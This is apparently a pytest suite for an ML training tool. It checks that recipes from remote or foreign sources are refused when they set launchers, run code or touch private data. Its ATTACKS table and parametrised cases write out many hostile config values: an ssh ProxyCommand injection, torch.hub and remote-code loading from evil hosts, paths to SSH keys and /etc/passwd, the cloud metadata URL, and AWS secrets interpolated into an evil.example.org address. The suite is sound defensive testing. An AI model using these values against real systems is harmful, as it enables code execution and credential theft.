"""Recipes of strangers: what they may not do, by whatever way they come in, and that kind ones still work."""

import re
import shutil
import threading
from collections.abc import Iterator
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import fsspec
import pytest
from watched import watched

from dtrain import recipe
from dtrain.__main__ import main
from dtrain.cluster import Cluster
from dtrain.compose import compose
from dtrain.config import files
from dtrain.config.schema import ROWS
from dtrain.errors import WordsError
from dtrain.resolve import resolve

RUN = "model: mlp\ndata: synthetic\nobjective: regression\nsteps: 2\n"
VALUES = {"bool": True, "int": 7777, "number": 7777, "list": ["x:/y"], "mapping": {"spec": {"x": "y"}}}
"""First word of what an argument may be -> a value that no default has; of the others a text."""


class Quiet(SimpleHTTPRequestHandler):
    def log_message(self, *_: Any) -> None:
        pass


@pytest.fixture(scope="module")
def web(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, str]]:
    folder = tmp_path_factory.mktemp("web")
    server = ThreadingHTTPServer(("127.0.0.1", 0), partial(Quiet, directory=folder))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield folder, f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    server.server_close()


def far(text: str, name: str = "mine") -> str:
    fsspec.filesystem("memory").pipe_file(f"/strangers/{name}.yaml", text.encode())
    return f"recipe=memory://strangers/{name}.yaml"


def refusals(*words: str) -> str:
    """Why nothing is composed; empty if it is."""
    try:
        compose(words)
    except WordsError as error:
        return "\n".join(error.problems)
    return ""


def of_launchers() -> Iterator[tuple[str, str, Any]]:
    """(launcher, argument, another value than its default) of each argument of each launcher."""
    for word in files.own("launcher"):
        node = files.node("launcher", word)
        for name, allowed in ((node.get("_about_") or {}).get("allowed") or {}).items():
            yield word, name, VALUES.get(str(allowed).split()[0], "touch /tmp/never")


@pytest.mark.parametrize(("word", "name", "value"), list(of_launchers()))
def test_no_word_of_a_launcher_comes_from_elsewhere(word: str, name: str, value: Any, tmp_path: Path) -> None:
    says = f"{RUN}launcher: {word}\nlauncher.{name}: {value!r}\n".replace("True", "true")
    (tmp_path / "copied.yaml").write_text(f"recipe: [memory://strangers/base.yaml]\n{RUN}")
    far(says, "base")
    for found in (
        far(says), f"recipe={tmp_path}/copied.yaml", far(f"recipe: [base.yaml]\n{RUN}"), far(f"{RUN}sweep.space: {{launcher.{name}: [{value!r}]}}".replace("True", "true")),
        far(f"{RUN}expect: {{loss: [0, 1], small: ['launcher={word}']}}"), far(f"{RUN}launcher: {{_target_: dtrain.launcher.{word}.X, {name}: 1}}"),
    ):  # fmt: skip
        assert "launcher" in refusals(found) and "cannot come from a recipe from elsewhere" in refusals(found)
    assert "not used" not in refusals(far(says), f"launcher={word}"), "typed: its arguments are left out"
    assert compose([far(says), f"launcher={word}"]).launcher.get(name) == files.node("launcher", word).get(name)


@pytest.mark.parametrize("verb", [["plan"], ["train"], ["doctor"], ["verify"], ["recipes", "check"], ["plan", "best"]])
@pytest.mark.parametrize(
    "says",
    [
        "launcher: ssh\nlauncher.hosts: [127.0.0.1]\nlauncher.options: '-oProxyCommand=touch /tmp/never'",
        "launcher: mpi\nlauncher.command: 'touch /tmp/never'",
        "launcher: slurm\nlauncher.setup: [touch /tmp/never]",
        "launcher: kubernetes\nlauncher.image: evil",
    ],
)
def test_nothing_runs_and_nothing_is_sent(verb: list[str], says: str, web: tuple[Path, str]) -> None:
    folder, url = web
    (folder / "evil.yaml").write_text(f"{RUN}{says}\n")
    assert main(["plan", far(RUN)]) == 0 and main(["plan", f"recipe={url}/evil.yaml"]) == 2, "imports are there"
    name = f"{url}/evil.yaml" if verb[0] == "recipes" else f"recipe={url}/evil.yaml"
    done = watched([*verb, name], environ={}, foreign=())
    assert (done.code, done.deeds) == (2, []), done.text
    assert "launcher cannot come from a recipe from elsewhere" in done.text and not Path("/tmp/never").exists()


def test_no_closed_key_comes_from_elsewhere() -> None:
    """Of the whole schema, whatever it is that a recipe gives."""
    for key, row in ROWS.items():
        if "open" not in row.metadata["scope"].split():
            assert f"{key.split('.')[0]}" in (said := refusals(far(f"{RUN}{key}: 'x/y'"))) and "cannot come" in said, (
                key
            )


ATTACKS = {
    "an argument of a trusted class that runs": "model: {_target_: mine.Net, command: 'touch /tmp/never'}",
    "a repository for torch.hub": "model: {_target_: torch.hub.load, repo_or_dir: evil/repo, model: x}",
    "the same as data": "data: {_target_: dtrain.data.dataset.Dataset, dataset: {_target_: torch.hub.load, repo_or_dir: evil/repo}}",
    "weights that are unpickled": "model: {_target_: torch.load, f: 'https://evil.example.org/x.pt'}",
    "weights_only off": "model: {_target_: torch.load, weights_only: false}",
    "a library": "objective: {_target_: torch.ops.load_library, path: ./evil.so}",
    "code of a model": "model: hf\nmodel.name: evil/model\nmodel.trust_remote_code: true",
    "code in a model's config": "model: hf\nmodel.name: evil/model\nmodel.config: {auto_map: {AutoModel: evil/repo--x.Y}}",
    "a kernel of a hub": "model: hf\nmodel.name: evil/model\nmodel.config: {attn_implementation: evil/kernel}",
    "a kernel by another key": "model: hf\nmodel.name: evil/model\nmodel.config: {experts_implementation: evil/kernel}",
    "a nested kernel": "model: hf\nmodel.name: a\nmodel.config: {text_config: {attn_implementation: evil/kernel}}",
    "generation of a hub": "model: hf\nmodel.name: a\nmodel.config: {custom_generate: evil}",
    "a partial": "model: {_target_: torch.nn.Linear, _partial_: true}",
    "arguments by place": "model: {_target_: torch.nn.Linear, _args_: [a]}",
    "a hook of the user's own": "hook: [upload]",
    "its arguments": "hook.upload.repo: evil",
    "a logger of the user's own": "logger: [wandb]",
    "where it sends": "logger.wandb.base_url: https://evil.example.org",
    "a new logger": "logger: {evil: {_target_: torch.utils.tensorboard.SummaryWriter, log_dir: x}}",
    "our logger by another name": "logger: {evil: {_target_: dtrain.logger.tensorboard.TensorBoard}}",
    "a strategy of the user's own": "strategy: mine",
    "a precision of the user's own": "precision: {_target_: torch.nn.Linear}",
    "a metric with code": "evaluate.metrics: [{_target_: torchmetrics.Accuracy}]",
    "tasks with functions": "evaluate.tasks: [./evil.yaml]",
    "a folder of tasks": "evaluate.tasks_path: evil",
    "a loop": "loop: torch.distributed.run.main",
    "where predictions go": "predict.to: https://evil.example.org/put",
    "where predictions go, in small": "expect: {loss: [0, 1], small: ['predict.to=s3://evil/x']}",
    "where answers go": "generate.to: s3://evil/x",
    "which prompts are read": "generate.prompts: private.txt",
    "where a run goes": "out: s3://evil/x",
    "with whose keys": "out_options: {key: a}",
    "where a sweep goes": "sweep.out: s3://evil/x",
    "how many workers begin": "sweep.workers: 4",
    "a swept place": "sweep.space: {out: [s3://evil/a, s3://evil/b]}",
    "a swept loop": "sweep.space: {loop: [mine.loop]}",
    "a swept file": "sweep.space: {data.path: [/etc/passwd]}",
    "a swept launcher": "sweep.space: {launcher: [mpi]}",
    "a swept target": "sweep.space: {launcher._target_: [dtrain.integrations.mpi.launcher.Mpi]}",
    "a target of a launcher": "launcher: {_target_: dtrain.integrations.mpi.launcher.Mpi}",
    "a target, in small": "expect: {loss: [0, 1], small: ['launcher._target_=dtrain.integrations.mpi.launcher.Mpi']}",
    "the folder of a cache": "data: text\ndata.cache: evil",
    "of a nested one": "data: mixture\ndata.of: {a: {data: text, cache: evil}}",
    "of a set": "evaluate.sets: {dev: {cache: evil}}",
    "of predicted rows": "predict.data: {cache: evil}",
    "a cluster of Ray": "data: ray\ndata.cluster: ray://evil.example.org:10001",
    "a running cluster of Ray": "data: ray\ndata.path: s3://bucket/rows",
    "the same by its class": "data: {_target_: dtrain.integrations.ray.data.build, path: s3://bucket/rows}",
    "in a mixture": "data: mixture\ndata.of: {a: {data: ray, path: s3://bucket/rows}}",
    "in a set": "evaluate.sets: {dev: {data: ray, path: s3://bucket/rows}}",
    "as rows to predict": "predict.data: {data: ray, path: s3://bucket/rows}",
    "in a space": "sweep.space: {data: [ray, text]}",
    "by a look-up": "generate.prompt: ray\nevaluate.sets: {dev: {data: '${generate.prompt}', path: s3://bucket/rows}}",
    "a key of ssh": "data: {path: /home/you/.ssh/id_rsa}",
    "by a way round": "data: {path: a/../../../home/you/.ssh/id_rsa}",
    "below the home": "data: {path: ~/.netrc}",
    "by another scheme": "data: {path: 'file:///etc/passwd'}",
    "in a list": "data: {path: ['https://93.184.216.34/a', /etc/passwd]}",
    "in a chain": "data: {path: 'simplecache::file:///etc/passwd'}",
    "a tokenizer of this machine": "data: {tokenizer: ./tokenizer.json}",
    "a template of this machine": "data: chat\ndata.template: private.txt",
    "a teacher of this machine": "objective: distill\nobjective.teacher: runs/private",
    "a run to go on from": "fork: runs/private",
    "a run to begin with": "init: runs/private",
    "names in a file": "init_names: private.txt",
    "a model of this machine": "model: hf\nmodel.name: private.txt",
    "the cloud's own address": "data: {path: 'http://169.254.169.254/latest/meta-data'}",
    "by a number": "data: {path: 'http://2852039166/'}",
    "a host of the network": "init: http://nas.local/run",
    "a share": "data: {path: 'smb://nas.local/share'}",
    "a variable": "data: {path: 'https://evil.example.org/${oc.env:AWS_SECRET_ACCESS_KEY}'}",
    "a variable as a name": "model: hf\nmodel.name: 'evil/${oc.env:USER}'",
    "a variable as a seed": "seed: '${oc.decode:${oc.env:PIN}}'",
    "what the user typed": "data: {path: 'https://93.184.216.34/${out}'}",
    "what was typed for another": "generate.prompt: '${logger.mine.api_key}'",
    "a closed key by a look-up": "generate.prompt: '${launcher.options}'",
    "something made": "model: '${oc.create:{_target_: os.system}}'",
    "credentials in a URL": "init: s3://key:hunter2@bucket/run",
    "a signed URL": "data: {path: 'https://93.184.216.34/a?X-Amz-Signature=abcdef0123'}",
    "a place made of parts": "data: {path: 'https://93.184.216.34/a'}\nmodel: {_target_: torch.nn.Linear, where: '${data.path}'}",
    "a setting of Hydra": "hydra: {sweep: {dir: /tmp/never}}",
    "a launcher of Hydra": "defaults:\n  - override hydra/launcher: evil",
    "words on the searchpath": "hydra.searchpath: ['pkg://evil']",
    "trust": "trust: [os]",
    "a machine to plan for": "cluster: {_target_: dtrain.cluster.Machine, gpu: evil}",
    "that a run must be there": "resume: must",
    "a file beside": "recipe: [file:///etc/passwd]",
    "a control character": 'generate.prompt: "\\e]0;owned\\a"',
}  # fmt: skip


def test_there_are_sixty_and_each_is_another() -> None:
    assert len(ATTACKS) >= 60 and len(set(ATTACKS.values())) == len(ATTACKS)


@pytest.mark.parametrize("name", ATTACKS)
def test_a_stranger_is_refused(name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "runs" / "private").mkdir(parents=True)
    (tmp_path / "private.txt").write_text("private")
    typed = () if name == "trust" else ("trust=[mine,torch]",)
    said = refusals(far(ATTACKS[name]), *typed)
    assert re.search(
        "from elsewhere|cannot (come from a recipe|be swept)|a recipe cannot|not an argument|not a key|not understood",
        said,
    ), said
    if "${out}" not in ATTACKS[name]:
        (tmp_path / "copied.yaml").write_text("recipe: [memory://strangers/mine.yaml]\n")
        assert refusals(f"recipe={tmp_path}/copied.yaml", *typed), "included"


@pytest.mark.parametrize("path", sorted(recipe.folder("recipes").glob("*.yaml")), ids=lambda path: path.stem)
def test_the_recipes_of_dtrain_work_from_a_url(path: Path, web: tuple[Path, str]) -> None:
    folder, url = web
    shutil.copy(path, folder)
    typed = ["data.path=rows.parquet", "model.name=mine", "data.tokenizer=mine"]
    known = compose([f"recipe={path.stem}"])
    typed = [
        word for word in typed if getattr(known, word.split(".")[0]).get(word.split(".")[1].split("=")[0]) == "???"
    ]
    one, other = (
        resolve(compose([word, *typed]), Cluster(gpus=0, cpus=8))
        for word in (f"recipe={path.stem}", f"recipe={url}/{path.name}")
    )
    assert one.digest == other.digest


def test_a_new_project_works_from_a_url(web: tuple[Path, str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.syspath_prepend(str(tmp_path / "moons"))
    assert main(["new", "moons"]) == 0
    folder, url = web
    shutil.copy(tmp_path / "moons" / "moons" / "train.yaml", folder / "moons.yaml")
    plan = resolve(compose([f"recipe={url}/moons.yaml", "trust=[moons]"]), Cluster(gpus=0, cpus=8))
    assert plan.model["_target_"] == "moons.net.Net" and plan.steps == 300


def test_a_saved_run_works_from_a_url(web: tuple[Path, str]) -> None:
    folder, url = web
    words = [
        "model=mlp",
        "data=synthetic",
        "objective=regression",
        "devices=2",
        "checkpoint.keep=3",
        "logger=[console]",
    ]
    first = compose([*words, "launcher=local", "launcher.restarts=5"])
    (folder / "config.yaml").write_text(recipe.write(first))
    assert "launcher cannot come from a recipe from elsewhere" in refusals(f"recipe={url}/config.yaml")
    again = compose([f"recipe={url}/config.yaml", "launcher=local"])
    assert (again.checkpoint["keep"], again.launcher["restarts"]) == (3, 3), "where it runs is the user's to type"
    (folder / "config.yaml").write_text(recipe.write(compose(words)))
    assert compose([f"recipe={url}/config.yaml"]).devices == 2


def test_the_code_in_a_recipe_of_this_machine_is_named(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "copied.yaml"
    path.write_text(f"{RUN}nodes: 2\nlauncher: ssh\nlauncher.hosts: [a, b]\nlauncher.options: -oProxyCommand=evil\n")
    named = f"launcher.options=-oProxyCommand=evil ({path}:8) is run as it stands"
    for command in (["recipes", "check", str(path)], ["plan", f"recipe={path}"]):
        done = watched(command, environ={}, foreign=())
        assert done.code == 0 and named in " ".join(done.text.split()) and "launcher.hosts=" not in done.text, done.text
    assert main(["plan", f"recipe={path}", "launcher.options="]) == 0 and "as it stands" not in capsys.readouterr().out
    path.write_text("steps: x\n")
    assert main(["recipes", "check", str(path)]) == 2 and f"{path}:1" in capsys.readouterr().err


def test_an_imported_file_of_a_stranger_brings_no_places(
    web: tuple[Path, str], capsys: pytest.CaptureFixture[str]
) -> None:
    folder, url = web
    (folder / "axolotl.yaml").write_text(
        "base_model: a/model\ndatasets: [{path: /home/you/.ssh/id_rsa, type: chat_template}]\nmicro_batch_size: 2\nnum_epochs: 1\nlearning_rate: 1e-4\n"
    )
    (folder / "accelerate.yaml").write_text(
        "compute_environment: LOCAL_MACHINE\ndistributed_type: MULTI_CPU\nnum_machines: 2\nnum_processes: 4\nmain_process_ip: evil.example.org\nmain_process_port: 1\nmachine_rank: 0\n"
    )
    for name, key in (("axolotl", "data.path"), ("accelerate", "launcher.address")):
        assert main(["import", f"{url}/{name}.yaml"]) == 0
        said = capsys.readouterr().out
        recipe_text = "\n".join(line for line in said.splitlines() if not line.startswith("#"))
        assert f" {key}=" in said and "id_rsa" not in recipe_text and "evil" not in recipe_text
        fsspec.filesystem("memory").pipe_file("/strangers/imported.yaml", recipe_text.encode())
        assert "cannot" not in refusals("recipe=memory://strangers/imported.yaml"), "what is left is a kind recipe"
